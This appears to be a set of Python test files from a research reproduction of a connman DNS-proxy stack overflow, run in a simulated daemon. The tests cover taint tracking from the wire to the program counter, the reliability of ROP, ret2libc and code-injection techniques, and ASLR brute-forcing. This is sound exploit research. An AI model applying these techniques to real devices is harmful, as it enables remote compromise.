    assert result.reason in VALID_END_REASONS


@settings(max_examples=150, deadline=None)
@given(packet=st.binary(max_size=128))
def test_property_message_decode_total(packet):
    """Message.decode raises only its own error family."""
    try:
        Message.decode(packet)
    except (MessageDecodeError, PointerLoopError):
        pass


@settings(max_examples=150, deadline=None)
@given(packet=st.binary(max_size=256))
def test_property_dns_server_total(packet):
    """A resolver fed garbage answers or stays silent, never raises."""
    server = SimpleDnsServer(default_address="1.2.3.4")
    response = server.handle_query(packet)
    assert response is None or len(response) >= 12


@settings(max_examples=100, deadline=None)
@given(reply=st.binary(max_size=512))
def test_property_dnsproxy_total_on_garbage(reply):
    """Arbitrary upstream bytes produce a typed DaemonEvent, never a host
    exception — and garbage that fails header validation leaves the daemon
    alive."""
    daemon = fresh_daemon("x86", profile=WX_ASLR, seed=1)
    event = daemon.handle_upstream_reply(reply)
    assert isinstance(event, DaemonEvent)
    assert event.kind in EventKind


@settings(max_examples=60, deadline=None)
@given(
    seed=st.integers(min_value=0, max_value=2**31),
    label_lengths=st.lists(st.integers(min_value=1, max_value=63), min_size=1, max_size=40),
)
def test_property_random_label_streams(seed, label_lengths):
    """Syntactically valid but random label streams either get dropped,
    parse fine, or crash the guest — all as typed events."""
    rng = random.Random(seed)
    blob = bytearray()
    for length in label_lengths:
        blob.append(length)
        blob += bytes(rng.randrange(256) for _ in range(length))
    blob.append(0)
    from repro.dns import build_raw_response, make_query

    query = make_query(0x1234, "fuzz.example")
    reply = build_raw_response(query, bytes(blob))
    daemon = fresh_daemon("arm", profile=NONE, seed=2)
    event = daemon.handle_upstream_reply(reply, expected_id=0x1234)
    assert event.kind in (EventKind.RESPONDED, EventKind.DROPPED,
                          EventKind.CRASHED, EventKind.HUNG)
    # Expansions below the buffer size can never take the daemon down.
    expansion = sum(1 + length for length in label_lengths)
    if expansion < 1024 and event.kind != EventKind.DROPPED:
        assert daemon.alive


@settings(max_examples=40, deadline=None)
@given(seed=st.integers(min_value=0, max_value=2**31))
def test_property_daemon_deterministic_per_seed(seed):
    """Identical seeds give byte-identical layouts and outcomes."""
    def boot_and_crash(s):
        daemon = ConnmanDaemon(arch="x86", profile=WX_ASLR, rng=random.Random(s))
        from repro.core import naive_overflow_blob
        from repro.dns import build_raw_response, make_query

        reply = build_raw_response(make_query(1, "x.example"), naive_overflow_blob())
        event = daemon.handle_upstream_reply(reply, expected_id=1)
        return (daemon.loaded.layout, event.kind, event.signal, event.detail)

    assert boot_and_crash(seed) == boot_and_crash(seed)
