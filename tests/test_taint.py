"""Wire-to-PC taint provenance (PR 10).

Pins the tentpole's contract from both sides: the engine *shows* the
paper's data flow (wire offset -> stack buffer -> saved return address ->
program counter) and *changes nothing* (taint on/off outcomes are
byte-identical, sequential/parallel sweeps merge the same counters, and
the taint-derived return-slot offset agrees with recon's cyclic-pattern
math on both §V profiles).
"""

import json

import pytest

from repro.cli import main
from repro.connman import ConnmanDaemon
from repro.core import run_chaos_sweep, run_forced_crash, run_observed_attack
from repro.exploit import Debugger
from repro.mem import AddressSpace, Perm
from repro.obs import (
    Collector,
    CrashReport,
    ShadowMemory,
    TaintEngine,
    export_datagrams,
    format_offsets,
    group_offsets,
    parse_pcap_text,
    render_provenance,
    validate_taint_summary,
)
from repro.obs.taint import coalesce_seeds, payload_digest


def _outcome(run):
    """The observable verdict of one scenario run (no telemetry)."""
    event = run.event
    return (
        event.kind.value if event is not None else None,
        event.detail if event is not None else None,
        event.signal if event is not None else None,
        run.error,
    )


def _tainted_crash(arch):
    collector = Collector()
    engine = collector.attach_taint(TaintEngine())
    run = run_forced_crash(arch=arch, observer=collector)
    return run, engine


# -- shadow map / label plumbing ----------------------------------------------


class TestShadowMemory:
    def test_set_read_union_and_clear(self):
        shadow = ShadowMemory()
        labels = (frozenset({(0, 10)}), frozenset({(0, 11)}))
        shadow.set_range(0x1000, labels)
        assert shadow.read(0x1000, 2) == labels
        assert shadow.union(0x1000, 2) == {(0, 10), (0, 11)}
        assert shadow.live_bytes == 2
        shadow.clear_range(0x1000, 1)
        assert shadow.read(0x1000, 2) == (frozenset(), frozenset({(0, 11)}))
        assert shadow.live_bytes == 1

    def test_untainted_bytes_cost_nothing(self):
        shadow = ShadowMemory()
        shadow.set_range(0x2000, (frozenset(), frozenset()))
        assert shadow.live_bytes == 0

    def test_tainted_runs_coalesce_contiguous_bytes(self):
        shadow = ShadowMemory()
        shadow.set_range(0x3000, (frozenset({(0, 1)}),) * 3)
        shadow.set_range(0x3004, (frozenset({(0, 9)}),))
        runs = shadow.tainted_runs(0x3000, 8)
        assert [(start, length) for start, length, _ in runs] == [
            (0x3000, 3), (0x3004, 1)]
        assert runs[0][2] == {(0, 1)}

    def test_address_space_write_carries_and_clears_taint(self):
        space = AddressSpace()
        space.map_new("scratch", 0x1000, 0x100, Perm.R | Perm.W)
        space.taint = ShadowMemory()
        space.write(0x1010, b"AB", taint=(frozenset({(0, 5)}),
                                          frozenset({(0, 6)})))
        assert space.taint.union(0x1010, 2) == {(0, 5), (0, 6)}
        # An untainted write over tainted bytes scrubs the shadow.
        space.write(0x1010, b"\x00")
        assert space.taint.union(0x1010, 2) == {(0, 6)}

    def test_address_space_rejects_mismatched_label_width(self):
        space = AddressSpace()
        space.map_new("scratch", 0x1000, 0x100, Perm.R | Perm.W)
        space.taint = ShadowMemory()
        with pytest.raises(ValueError, match="cover"):
            space.write(0x1000, b"ABC", taint=(frozenset(),))


class TestLabelFormatting:
    def test_group_offsets_splits_by_source(self):
        grouped = group_offsets([(1, 7), (0, 3), (0, 1), (1, 6)])
        assert grouped == {0: [1, 3], 1: [6, 7]}

    def test_format_offsets_compresses_runs(self):
        assert format_offsets([1, 2, 3, 4, 9]) == "1..4, 9"
        assert format_offsets([5]) == "5"

    def test_coalesce_seeds_merges_linear_copies(self):
        seeds = [
            {"source": 0, "wire_offset": 10, "length": 1, "address": 0x100,
             "note": "label length"},
            {"source": 0, "wire_offset": 11, "length": 4, "address": 0x101,
             "note": "label bytes"},
            {"source": 0, "wire_offset": 20, "length": 1, "address": 0x105,
             "note": "label length"},
        ]
        merged = coalesce_seeds(seeds)
        assert [(s["wire_offset"], s["length"]) for s in merged] == [
            (10, 5), (20, 1)]


# -- zero outcome effect ------------------------------------------------------


class TestOutcomeParity:
    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_forced_crash_identical_taint_on_off(self, arch):
        assert _outcome(run_forced_crash(arch=arch)) == _outcome(
            run_forced_crash(arch=arch, taint=True))

    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_observed_attack_identical_taint_on_off(self, arch):
        assert _outcome(run_observed_attack(arch=arch)) == _outcome(
            run_observed_attack(arch=arch, taint=True))

    def test_chaos_cells_identical_taint_on_off(self):
        def cells(taint):
            report = run_chaos_sweep((0.0, 0.3), seed=7, queries_per_rate=4,
                                     attack_budget=3, observer=Collector(),
                                     taint=taint)
            payload = report.to_dict()
            # The telemetry legitimately differs (taint.* counters exist,
            # block dispatch is declined under taint); the outcomes do not.
            payload.pop("metrics", None)
            return json.dumps(payload, sort_keys=True)

        assert cells(taint=False) == cells(taint=True)

    def test_chaos_taint_counters_workers2_match_sequential(self):
        def sweep(workers):
            observer = Collector()
            report = run_chaos_sweep((0.0, 0.3), seed=7, queries_per_rate=4,
                                     attack_budget=3, observer=observer,
                                     workers=workers, taint=True)
            taint_counters = {
                name: value
                for name, value in observer.metrics.counters().items()
                if name.startswith("taint.")
            }
            return json.dumps(report.to_dict(), sort_keys=True), taint_counters

        sequential_cells, sequential_counters = sweep(1)
        parallel_cells, parallel_counters = sweep(2)
        assert sequential_cells == parallel_cells
        assert sequential_counters == parallel_counters
        assert sequential_counters["taint.sources"] > 0


# -- recon cross-validation ---------------------------------------------------


class TestReconCrossValidation:
    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_taint_offset_matches_pattern_probe(self, arch):
        debugger = Debugger(ConnmanDaemon(arch=arch))
        assert debugger.find_ret_offset_taint() == debugger.find_ret_offset()


# -- provenance chain ---------------------------------------------------------


class TestProvenance:
    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_forced_crash_chain_is_non_empty(self, arch):
        _run, engine = _tainted_crash(arch)
        assert len(engine.sources) == 1
        assert engine.seeded_bytes > 1000  # the oversized name really seeded
        text = render_provenance(engine)
        assert "1 source(s)" in text
        assert "wire[" in text and "] -> mem[" in text

    def test_x86_crash_pc_is_wire_controlled(self):
        run, engine = _tainted_crash("x86")
        assert engine.pc_events, "x86 naive overflow must reach the ret slot"
        event = engine.pc_events[-1]
        assert event["via"] == "parse_response epilogue"
        # Every byte that landed in PC came off the wire from source 0.
        assert {source for source, _offset in event["labels"]} == {0}
        assert engine.datagram_reached_pc(
            bytes.fromhex(run.collector.last_postmortem.datagram_hex))
        assert "PC <-" in render_provenance(engine)

    def test_arm_naive_crash_dies_before_the_return(self):
        # §III-A: the naive ARM overflow faults in parse_rr's pointer
        # dereference first, so there is no tainted PC write — but the
        # stack provenance is still on record.
        _run, engine = _tainted_crash("arm")
        assert engine.pc_events == []
        assert "no tainted PC writes observed" in render_provenance(engine)

    def test_crash_summary_validates_and_embeds_in_report(self):
        run, _engine = _tainted_crash("x86")
        report = run.collector.last_postmortem
        assert report.taint is not None
        assert validate_taint_summary(report.taint) > 0
        assert validate_taint_summary(
            json.loads(json.dumps(report.to_dict()))["taint"]) > 0
        rendered = report.render()
        assert "PC tainted by payload offsets [source 0 offsets" in rendered
        assert "last tainted PC write:" in rendered
        assert "tainted stack bytes" in rendered

    def test_untainted_report_has_no_taint_section(self):
        run = run_forced_crash(arch="x86")
        report = run.collector.last_postmortem
        assert report.taint is None
        assert "taint" not in report.render().lower()


# -- golden render ------------------------------------------------------------


GOLDEN_TAINT = {
    "version": "repro-taint/v1",
    "pc": 0x41414141,
    "pc_offsets": {"0": [1074, 1075, 1076, 1077]},
    "pc_writes": 1,
    "last_pc_event": {"pc": 0x41414141, "via": "parse_response epilogue",
                      "address": 0xBFFFED00,
                      "labels": [[0, 1074], [0, 1075], [0, 1076], [0, 1077]],
                      "registers": {"eip": [[0, 1074], [0, 1075],
                                            [0, 1076], [0, 1077]]}},
    "live_bytes": 4,
    "sources": [{"id": 0, "bytes": 1450, "digest": "79165c7f579bf822",
                 "span_id": 4, "note": "dns reply"}],
    "registers": {"eip": {"0": [1074, 1075, 1076, 1077]}},
    "stack": [{"address": 0xBFFFE8F0, "length": 4,
               "offsets": {"0": [100, 101, 102, 103]}}],
}

GOLDEN_PLAIN_RENDER = """\
crash postmortem: connmand (pid 100, x86)
  signal : SIGSEGV — fetch from unmapped 0x41414141
  pc     : 0x41414141  (unmapped or undecodable)
  sp     : 0xbfffe900
  registers:
      eax=00000000    eip=41414141
  stack [0xbfffe8f0, +4):
    0xbfffe8f0  41 41 41 41
  segment map:
    bfff0000-c0000000 rw- stack"""

GOLDEN_TAINT_RENDER = GOLDEN_PLAIN_RENDER + """
  PC tainted by payload offsets [source 0 offsets 1074..1077]
    last tainted PC write: 0x41414141 via parse_response epilogue from [0xbfffed00]
    tainted stack bytes [0xbfffe8f0, +4): source 0 offsets 100..103"""


def _golden_report():
    return CrashReport(
        process_name="connmand", arch="x86", pid=100, signal="SIGSEGV",
        reason="fetch from unmapped 0x41414141", pc=0x41414141, sp=0xBFFFE900,
        pc_disasm="(unmapped or undecodable)",
        registers={"eax": 0, "eip": 0x41414141},
        stack_base=0xBFFFE8F0,
        stack_hex="41414141",
        segments=[{"name": "stack", "base": 0xBFFF0000, "end": 0xC0000000,
                   "perm": "rw-"}],
    )


class TestGoldenRender:
    def test_render_without_taint(self):
        assert _golden_report().render() == GOLDEN_PLAIN_RENDER

    def test_render_with_taint(self):
        report = _golden_report()
        report.taint = GOLDEN_TAINT
        assert validate_taint_summary(GOLDEN_TAINT) == 20
        assert report.render() == GOLDEN_TAINT_RENDER


# -- schema validator ---------------------------------------------------------


class TestSummaryValidator:
    @pytest.mark.parametrize("mutate, message", [
        (lambda p: p.pop("stack"), "keys must be exactly"),
        (lambda p: p.update(version="repro-taint/v2"), "version"),
        (lambda p: p.update(pc_writes=0), "last_pc_event must be null"),
        (lambda p: p["last_pc_event"].update(labels=[]), "non-empty"),
        (lambda p: p["pc_offsets"].update({"x": [1]}), "stringified source"),
        (lambda p: p["pc_offsets"].update({"0": [2, 1]}), "sorted"),
        (lambda p: p["sources"][0].update(id=3), "position"),
        (lambda p: p["sources"][0].update(digest="NOPE"), "16 hex chars"),
        (lambda p: p["stack"][0].update(length=0), "positive"),
    ])
    def test_rejects_malformed(self, mutate, message):
        payload = json.loads(json.dumps(GOLDEN_TAINT))
        mutate(payload)
        with pytest.raises(ValueError, match=message):
            validate_taint_summary(payload)


# -- capture linkage ----------------------------------------------------------


class TestPcapAnnotation:
    def test_export_marks_pc_reaching_datagrams_and_round_trips(self):
        run, engine = _tainted_crash("x86")
        text = export_datagrams(run.network.traffic, name="crash-lan",
                                taint=engine)
        marked = [line for line in text.splitlines()
                  if line.startswith("# taint:")]
        assert len(marked) == 1  # exactly the malicious upstream reply
        digest = payload_digest(
            bytes.fromhex(run.collector.last_postmortem.datagram_hex))
        assert digest in marked[0]
        # Comments are annotations, not records: the parse still round-trips.
        name, datagrams = parse_pcap_text(text)
        assert name == "crash-lan"
        assert len(datagrams) == len(run.network.traffic)

    def test_benign_capture_gains_no_annotations(self):
        run, engine = _tainted_crash("x86")
        benign = [d for d in run.network.traffic
                  if not engine.datagram_reached_pc(d.payload)]
        text = export_datagrams(benign, taint=engine)
        assert "# taint:" not in text


# -- CLI ----------------------------------------------------------------------


class TestTaintCli:
    def test_taint_crash_text(self, capsys):
        assert main(["taint", "--scenario", "crash"]) == 0
        out = capsys.readouterr().out
        assert out.startswith("taint provenance: 1 source(s)")
        assert "PC <-" in out

    def test_taint_json_mode(self, capsys):
        assert main(["taint", "--scenario", "crash", "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["sources"] and payload["seeds"]
        assert payload["seeded_bytes"] > 0

    def test_postmortem_taint_json_embeds_valid_summary(self, capsys):
        assert main(["postmortem", "--taint", "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert validate_taint_summary(payload["taint"]) > 0

    def test_postmortem_without_taint_embeds_null(self, capsys):
        assert main(["postmortem", "--json"]) == 0
        assert json.loads(capsys.readouterr().out)["taint"] is None

    def test_pcap_taint_document_and_sniff_marks(self, capsys):
        assert main(["pcap", "--taint"]) == 0
        document = capsys.readouterr().out
        assert "# taint:" in document
        parse_pcap_text(document)
        assert main(["pcap", "--taint", "--sniff"]) == 0
        sniffed = capsys.readouterr().out
        assert "[bytes reached tainted PC]" in sniffed

    def test_dash_json_carries_taint_panel(self, capsys):
        run, engine = _tainted_crash("x86")
        from repro.obs import build_dashboard_json, render_dashboard

        payload = build_dashboard_json(run.collector)
        assert payload["taint"]["seeded_bytes"] == engine.seeded_bytes
        frame = render_dashboard(run.collector, color=False)
        assert "taint provenance" in frame
        assert "pc_writes=1" in frame
