"""Zone-file parsing and CNAME-chasing resolution."""

import pytest

from repro.dns import (
    Message,
    RecordType,
    SimpleDnsServer,
    StubResolver,
    ZoneFileError,
    make_query,
    parse_zone,
)

ZONE_TEXT = """
; example.com lab zone
$ORIGIN example.com.
$TTL 600
@            IN A     93.184.216.34
www          IN CNAME @
api      120 IN A     93.184.216.35
             IN AAAA  2606:2800::35
ipv6         IN AAAA  2606:2800::1
deep         IN CNAME www
note         IN TXT   "lab zone"
absolute.other.net.  IN A 198.51.100.7
"""


class TestParse:
    def test_record_count(self):
        zone = parse_zone(ZONE_TEXT)
        assert len(zone.records) == 8

    def test_origin_applied(self):
        zone = parse_zone(ZONE_TEXT)
        names = {record.name for record in zone.records}
        assert "api.example.com" in names
        assert "absolute.other.net" in names

    def test_at_sign_is_origin(self):
        zone = parse_zone(ZONE_TEXT)
        apex = [r for r in zone.records if r.rtype == RecordType.A][0]
        assert apex.name == "example.com"

    def test_default_ttl_and_override(self):
        zone = parse_zone(ZONE_TEXT)
        api = next(r for r in zone.records if r.name == "api.example.com"
                   and r.rtype == RecordType.A)
        assert api.ttl == 120
        apex = next(r for r in zone.records if r.name == "example.com")
        assert apex.ttl == 600

    def test_indented_continuation_reuses_owner(self):
        zone = parse_zone(ZONE_TEXT)
        aaaa = [r for r in zone.records if r.rtype == RecordType.AAAA]
        assert {r.name for r in aaaa} == {"api.example.com", "ipv6.example.com"}

    def test_comments_and_blanks_ignored(self):
        assert parse_zone("; nothing\n\n").records == []

    def test_by_type(self):
        zone = parse_zone(ZONE_TEXT)
        assert len(zone.by_type(RecordType.CNAME)) == 2

    def test_bad_directive(self):
        with pytest.raises(ZoneFileError, match="ORIGIN"):
            parse_zone("$ORIGIN\n")

    def test_bad_ttl(self):
        with pytest.raises(ZoneFileError, match="TTL"):
            parse_zone("$TTL soon\n")

    def test_unsupported_type(self):
        with pytest.raises(ZoneFileError, match="unsupported"):
            parse_zone("x.example. IN MX 10 mail.example.\n")

    def test_bad_address(self):
        with pytest.raises(ZoneFileError):
            parse_zone("x.example. IN A not-an-ip\n")

    def test_indent_without_owner(self):
        with pytest.raises(ZoneFileError, match="owner"):
            parse_zone("   IN A 1.2.3.4\n")


class TestCnameResolution:
    def make_server(self):
        return SimpleDnsServer.from_zone(parse_zone(ZONE_TEXT))

    def test_direct_a(self):
        server = self.make_server()
        result = StubResolver().resolve(server.handle_query, "api.example.com")
        assert result.address == "93.184.216.35"

    def test_cname_chased_to_a(self):
        server = self.make_server()
        result = StubResolver().resolve(server.handle_query, "www.example.com")
        assert result.address == "93.184.216.34"

    def test_chain_of_two_cnames(self):
        server = self.make_server()
        result = StubResolver().resolve(server.handle_query, "deep.example.com")
        assert result.address == "93.184.216.34"

    def test_answer_contains_full_chain(self):
        server = self.make_server()
        reply = Message.decode(server.handle_query(make_query(1, "deep.example.com").encode()))
        types = [record.rtype for record in reply.answers]
        assert types == [RecordType.CNAME, RecordType.CNAME, RecordType.A]

    def test_aaaa_through_zone(self):
        server = self.make_server()
        result = StubResolver().resolve(server.handle_query, "ipv6.example.com",
                                        RecordType.AAAA)
        assert result.address.startswith("2606:2800")

    def test_cname_loop_unresolvable(self):
        server = SimpleDnsServer()
        server.add_cname("a.example", "b.example")
        server.add_cname("b.example", "a.example")
        result = StubResolver().resolve(server.handle_query, "a.example")
        assert not result.ok

    def test_dangling_cname_nxdomain(self):
        server = SimpleDnsServer()
        server.add_cname("alias.example", "gone.example")
        result = StubResolver().resolve(server.handle_query, "alias.example")
        assert not result.ok


class TestConnmanThroughZone:
    def test_proxy_caches_cname_target_address(self):
        """Full stack: client -> connman proxy -> zone-backed resolver."""
        from tests.conftest import fresh_daemon

        daemon = fresh_daemon("x86")
        server = SimpleDnsServer.from_zone(parse_zone(ZONE_TEXT))
        result = StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, server.handle_query),
            "www.example.com",
        )
        assert result.address == "93.184.216.34"
        assert daemon.alive
