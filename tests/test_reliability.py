"""E14 reliability study."""

import pytest

from repro.core import e14_reliability
from repro.core.reliability import STUDY_PLAN, run_reliability_study


class TestStudy:
    @pytest.fixture(scope="class")
    def cells(self):
        return run_reliability_study(trials=6)

    def test_plan_covers_all_six_paper_techniques(self):
        labels = {(label, arch) for label, arch, *_rest in STUDY_PLAN}
        for expected in (("code-injection", "x86"), ("code-injection", "arm"),
                         ("ret2libc", "x86"), ("gadget-execlp", "arm"),
                         ("rop", "x86"), ("rop", "arm")):
            assert expected in labels

    def test_every_cell_matches_expectation(self, cells):
        for cell in cells:
            assert cell.matches_expectation, cell.row()

    def test_deterministic_techniques_never_miss(self, cells):
        for cell in cells:
            if cell.expectation == "always":
                assert cell.rate == 1.0

    def test_randomized_absolutes_fail_under_aslr(self, cells):
        lottery = [cell for cell in cells if cell.expectation == "lottery"]
        assert lottery
        for cell in lottery:
            assert cell.rate < 0.1

    def test_jmp_esp_is_aslr_proof(self, cells):
        cell = next(c for c in cells if c.technique == "jmp-esp")
        assert cell.victim_profile == "ASLR"
        assert cell.rate == 1.0


class TestExperiment:
    def test_e14_all_ok(self):
        result = e14_reliability(trials=5)
        assert result.all_pass
        assert len(result.rows) == len(STUDY_PLAN)
