"""E15 entropy sweep and the parameterizable ASLR span."""

import random

import pytest

from repro.connman import ConnmanDaemon
from repro.core import e15_entropy_sweep
from repro.core.sweeps import EntropyPoint, sweep_bruteforce_entropy
from repro.defenses import WX_ASLR
from repro.exploit import AslrBruteForcer


class TestParameterizedEntropy:
    def test_profile_carries_entropy(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=32)
        assert profile.aslr_entropy_pages == 32
        assert WX_ASLR.aslr_entropy_pages == 256  # default unchanged

    def test_daemon_layout_respects_span(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=4)
        bases = set()
        daemon = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(1))
        for _ in range(32):
            daemon.restart()
            bases.add(daemon.loaded.layout.libc_base)
        # At most 4 distinct slides possible.
        assert len(bases) <= 4

    def test_bruteforcer_uses_victim_span(self):
        victim = ConnmanDaemon(
            arch="x86", profile=WX_ASLR.with_(aslr_entropy_pages=8),
            rng=random.Random(5),
        )
        forcer = AslrBruteForcer(victim, max_attempts=256, rng=random.Random(6))
        assert forcer.entropy_pages == 8
        result = forcer.run()
        # Tiny span: the attack lands almost immediately.
        assert result.succeeded
        assert result.attempts <= 64


class TestSweep:
    def test_points_cover_series(self):
        points = sweep_bruteforce_entropy(entropy_series=(8, 32), runs_per_point=2)
        assert [p.entropy_pages for p in points] == [8, 32]
        assert all(len(p.attempts) == 2 for p in points)

    def test_point_statistics(self):
        point = EntropyPoint(entropy_pages=64, attempts=[10, 50, 90])
        assert point.median_attempts == 50
        assert point.plausible

    def test_implausibly_slow_point_flagged(self):
        point = EntropyPoint(entropy_pages=16, attempts=[4000, 5000, 6000])
        assert not point.plausible

    def test_e15_experiment(self):
        result = e15_entropy_sweep(runs_per_point=3)
        assert result.all_pass
        assert result.rows[-1][0] == "(scaling)"


class TestTrialSeedIndependence:
    """Regression: ``attacker_seed = victim_seed + 1`` correlated trials.

    With XOR-stacked victim seeds, ``(base ^ run) + 1 == base ^ (run + 1)``
    whenever ``run`` is even — run N's attacker replayed run N+1's victim
    RNG stream.  The crc32 derivation keys every (entropy, run, role)
    independently.
    """

    def _trial_seeds(self, entropy_series=(16, 64), runs_per_point=6, seed=0xE15):
        from repro.core.registry import derive_seed
        from repro.core.sweeps import ENTROPY_EXPERIMENT_ID

        return [
            (entropy, run,
             seed ^ derive_seed(ENTROPY_EXPERIMENT_ID, entropy, run, "victim"),
             seed ^ derive_seed(ENTROPY_EXPERIMENT_ID, entropy, run, "attacker"))
            for entropy in entropy_series
            for run in range(runs_per_point)
        ]

    def test_no_seed_shared_between_any_two_roles(self):
        seeds = [s for *_ignored, victim, attacker in self._trial_seeds()
                 for s in (victim, attacker)]
        assert len(set(seeds)) == len(seeds)

    def test_attacker_never_replays_adjacent_victim(self):
        trials = self._trial_seeds()
        for (_, _, _, attacker), (_, _, next_victim, _) in zip(trials, trials[1:]):
            assert attacker != next_victim

    def test_sweep_consumes_the_derived_seeds(self):
        """The fix lives in the sweep itself, not just the helper."""
        import repro.core.sweeps as sweeps
        from repro.exploit import BruteForceTrial

        captured = []

        def _spy(task_fn, tasks, **kwargs):
            captured.extend(tasks)
            from repro.core.parallel import run_tasks
            return run_tasks(task_fn, tasks, **kwargs)

        original = sweeps.run_tasks
        sweeps.run_tasks = _spy
        try:
            sweep_bruteforce_entropy(entropy_series=(8,), runs_per_point=2)
        finally:
            sweeps.run_tasks = original
        expected = self._trial_seeds(entropy_series=(8,), runs_per_point=2)
        assert [(t.victim_seed, t.attacker_seed) for t in captured] == [
            (victim, attacker) for _, _, victim, attacker in expected]
        assert all(isinstance(t, BruteForceTrial) for t in captured)
