"""E15 entropy sweep and the parameterizable ASLR span."""

import random

import pytest

from repro.connman import ConnmanDaemon
from repro.core import e15_entropy_sweep
from repro.core.sweeps import EntropyPoint, sweep_bruteforce_entropy
from repro.defenses import WX_ASLR
from repro.exploit import AslrBruteForcer


class TestParameterizedEntropy:
    def test_profile_carries_entropy(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=32)
        assert profile.aslr_entropy_pages == 32
        assert WX_ASLR.aslr_entropy_pages == 256  # default unchanged

    def test_daemon_layout_respects_span(self):
        profile = WX_ASLR.with_(aslr_entropy_pages=4)
        bases = set()
        daemon = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(1))
        for _ in range(32):
            daemon.restart()
            bases.add(daemon.loaded.layout.libc_base)
        # At most 4 distinct slides possible.
        assert len(bases) <= 4

    def test_bruteforcer_uses_victim_span(self):
        victim = ConnmanDaemon(
            arch="x86", profile=WX_ASLR.with_(aslr_entropy_pages=8),
            rng=random.Random(5),
        )
        forcer = AslrBruteForcer(victim, max_attempts=256, rng=random.Random(6))
        assert forcer.entropy_pages == 8
        result = forcer.run()
        # Tiny span: the attack lands almost immediately.
        assert result.succeeded
        assert result.attempts <= 64


class TestSweep:
    def test_points_cover_series(self):
        points = sweep_bruteforce_entropy(entropy_series=(8, 32), runs_per_point=2)
        assert [p.entropy_pages for p in points] == [8, 32]
        assert all(len(p.attempts) == 2 for p in points)

    def test_point_statistics(self):
        point = EntropyPoint(entropy_pages=64, attempts=[10, 50, 90])
        assert point.median_attempts == 50
        assert point.plausible

    def test_implausibly_slow_point_flagged(self):
        point = EntropyPoint(entropy_pages=16, attempts=[4000, 5000, 6000])
        assert not point.plausible

    def test_e15_experiment(self):
        result = e15_entropy_sweep(runs_per_point=3)
        assert result.all_pass
        assert result.rows[-1][0] == "(scaling)"
