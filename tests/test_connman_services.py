"""Connman service manager: discovery, ordering, and the state machine."""

import pytest

from repro.connman import (
    ConnmanDaemon,
    EventKind,
    NetworkService,
    ServiceManager,
    ServiceState,
    ServiceType,
    strength_from_dbm,
)
from repro.defenses import WX_ASLR
from repro.dns import SimpleDnsServer
from repro.net import (
    AccessPoint,
    DhcpServer,
    DNS_PORT,
    Host,
    Network,
    RadioEnvironment,
    WirelessStation,
)


def build_world(ssid="Home", signal=-55):
    network = Network("home", subnet_prefix="192.168.7")
    gateway = Host("gw")
    network.attach(gateway, ip="192.168.7.1")
    dns = SimpleDnsServer(default_address="8.8.8.8")
    gateway.bind_udp(DNS_PORT, lambda payload, _d: dns.handle_query(payload))
    dhcp = DhcpServer("192.168.7", router="192.168.7.1", dns_server="192.168.7.1")
    radio = RadioEnvironment()
    ap = AccessPoint(ssid=ssid, network=network, dhcp=dhcp, signal_dbm=signal)
    radio.add(ap)
    return radio, ap


def make_manager(known=("Home",), online_check=None):
    station = WirelessStation(Host("dev"), known_ssids=list(known))
    return ServiceManager(station, online_check=online_check)


class TestStrengthScale:
    def test_mapping(self):
        assert strength_from_dbm(-100) == 0
        assert strength_from_dbm(-50) == 100
        assert strength_from_dbm(-75) == 50

    def test_clamped(self):
        assert strength_from_dbm(-120) == 0
        assert strength_from_dbm(-10) == 100


class TestDiscovery:
    def test_scan_creates_wifi_services(self):
        radio, ap = build_world()
        manager = make_manager()
        services = manager.scan_wifi(radio)
        assert len(services) == 1
        assert services[0].service_type is ServiceType.WIFI
        assert services[0].name == "Home"
        assert services[0].access_point is ap

    def test_rescan_updates_strength_in_place(self):
        radio, ap = build_world()
        manager = make_manager()
        first = manager.scan_wifi(radio)[0]
        ap.signal_dbm = -40
        second = manager.scan_wifi(radio)[0]
        assert second is first
        assert second.strength == strength_from_dbm(-40)

    def test_vanished_ap_drops_service(self):
        radio, ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        radio.remove(ap)
        assert manager.scan_wifi(radio) == []

    def test_ethernet_outranks_wifi(self):
        radio, _ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        manager.add_ethernet()
        services = manager.services()
        assert services[0].service_type is ServiceType.ETHERNET

    def test_wifi_ordered_by_strength(self):
        radio, _ap = build_world()
        twin_net = Network("twin", subnet_prefix="172.16.9")
        twin = AccessPoint(ssid="Home", network=twin_net,
                           dhcp=DhcpServer("172.16.9", "172.16.9.1", "172.16.9.1"),
                           signal_dbm=-30)
        radio.add(twin)
        manager = make_manager()
        services = manager.scan_wifi(radio)
        assert services[0].access_point is twin

    def test_service_lookup(self):
        radio, _ap = build_world()
        manager = make_manager()
        sid = manager.scan_wifi(radio)[0].service_id
        assert manager.service(sid).name == "Home"
        with pytest.raises(KeyError):
            manager.service("nope")


class TestLifecycle:
    def test_connect_reaches_ready_with_config(self):
        radio, _ap = build_world()
        manager = make_manager()
        service = manager.scan_wifi(radio)[0]
        manager.connect(service)
        assert service.state is ServiceState.READY
        assert service.ipv4_address.startswith("192.168.7.")
        assert service.nameservers == ["192.168.7.1"]
        assert manager.current is service

    def test_online_check_promotes_to_online(self):
        radio, _ap = build_world()
        manager = make_manager(online_check=lambda: True)
        service = manager.scan_wifi(radio)[0]
        manager.connect(service)
        assert service.state is ServiceState.ONLINE

    def test_failed_online_check_stays_ready(self):
        radio, _ap = build_world()
        manager = make_manager(online_check=lambda: False)
        service = manager.scan_wifi(radio)[0]
        manager.connect(service)
        assert service.state is ServiceState.READY

    def test_dhcp_exhaustion_is_failure(self):
        radio, ap = build_world()
        ap.dhcp.pool_size = 0
        manager = make_manager()
        service = manager.scan_wifi(radio)[0]
        manager.connect(service)
        assert service.state is ServiceState.FAILURE
        assert "DHCP" in service.error or "exhausted" in service.error

    def test_connecting_other_service_idles_previous(self):
        radio, _ap = build_world()
        twin_net = Network("twin", subnet_prefix="172.16.9")
        twin = AccessPoint(ssid="Home", network=twin_net,
